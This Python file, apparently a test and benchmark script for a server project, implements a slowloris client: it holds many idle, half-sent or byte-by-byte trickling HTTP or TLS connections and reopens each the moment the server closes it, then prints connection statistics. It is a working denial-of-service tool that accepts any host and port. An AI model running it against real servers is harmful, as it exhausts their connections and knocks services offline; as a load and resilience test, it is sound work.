"""A slowloris client for tests and benchmarks: many idle, half-sent or trickling
connections from one or more source addresses, reopened as soon as the server closes them.

    python tests/slowloris.py --port P [--host 127.0.0.1] [--source 127.0.0.2 ...]
        [--idle 1000] [--trickle 200] [--tls] [--duration 12]

- ``--idle N``: N connections that send ``GET /metrics HTTP/1.1\\r\\nHost: x\\r\\n`` (no
  blank line) and then wait;
- ``--trickle N``: N connections that send a request one byte a second;
- ``--tls``: the same inside TLS (handshake completed, certificate not checked);
- ``--silent``: the idle connections send nothing at all (for non-HTTP ports);
- ``--payload HEX``: the idle connections send these bytes instead, then wait (a probe
  rendezvous hello, which needs no secret, or a few bytes of a frame);
- ``--source``: repeatable; ``--idle`` and ``--trickle`` connections from each.

Each connection is reopened at once when the server closes it (the worst case: a client
that keeps the pressure on). Runs ``--duration`` seconds or until SIGTERM. Prints ``ready``
once every connection was tried (connected or failed) at least once, and a JSON summary at
the end: ``opened`` (connections established, TLS handshake included), ``closed_by_server``
(of those), ``errors`` (failed connects and handshakes, e.g. closed mid-handshake).
"""

from __future__ import annotations

import argparse
import asyncio
import json
import ssl
import sys
import time

from attackclient import Connections, raise_fd_limit  # this script's folder: run as a script

HALF_REQUEST = b"GET /metrics HTTP/1.1\r\nHost: x\r\n"
FULL_REQUEST = HALF_REQUEST + b"User-Agent: slowloris\r\n\r\n"


class Attack(Connections):
    def __init__(self, args: argparse.Namespace) -> None:
        super().__init__(args.source, args.idle + args.trickle)
        self.args = args
        self.stats = {"opened": 0, "closed_by_server": 0, "errors": 0}
        self.ctx: ssl.SSLContext | None = None
        if args.tls:
            self.ctx = ssl.create_default_context()
            self.ctx.check_hostname = False
            self.ctx.verify_mode = ssl.CERT_NONE

    async def one(self, source: str, i: int, deadline: float) -> None:
        trickle = i >= self.args.idle
        first = True
        while time.monotonic() < deadline and not self.stopping:
            writer = None
            try:
                reader, writer = await asyncio.open_connection(
                    self.args.host,
                    self.args.port,
                    local_addr=(source, 0),
                    ssl=self.ctx,
                    server_hostname="" if self.ctx else None,
                )
                self.stats["opened"] += 1
                if first:
                    first = False
                    self.tried()
                if trickle:
                    for at in range(len(FULL_REQUEST)):
                        if self.stopping:  # (3.11's wait_for can swallow a cancellation)
                            break
                        writer.write(FULL_REQUEST[at : at + 1])
                        await writer.drain()
                        # a closed connection shows as EOF; wait up to a second for it
                        try:
                            if not await asyncio.wait_for(reader.read(65536), 1.0):
                                break
                        except TimeoutError:
                            continue
                else:
                    if self.args.payload:
                        writer.write(bytes.fromhex(self.args.payload))
                        await writer.drain()
                    elif not self.args.silent:
                        writer.write(HALF_REQUEST)
                        await writer.drain()
                    while await reader.read(65536):
                        pass
                self.stats["closed_by_server"] += 1
            except (OSError, ssl.SSLError, EOFError) as e:
                self.stats["errors"] += 1
                kind = f"error_{type(e).__name__}"
                self.stats[kind] = self.stats.get(kind, 0) + 1
                await asyncio.sleep(0.01)
            finally:
                if first:
                    first = False
                    self.tried()
                if writer is not None:
                    writer.transport.abort()


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--source", action="append", help="local address to connect from (repeatable)")
    ap.add_argument("--idle", type=int, default=1000)
    ap.add_argument("--trickle", type=int, default=200)
    ap.add_argument("--tls", action="store_true")
    ap.add_argument("--silent", action="store_true", help="idle connections send nothing")
    ap.add_argument("--payload", default="", help="hex bytes idle connections send, then wait")
    ap.add_argument("--duration", type=float, default=12.0, help="seconds")
    args = ap.parse_args(argv)
    args.source = args.source or ["127.0.0.2"]
    raise_fd_limit((args.idle + args.trickle) * len(args.source) + 256)
    attack = Attack(args)
    asyncio.run(attack.attack(attack.one, args.duration))
    print(json.dumps(attack.stats), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
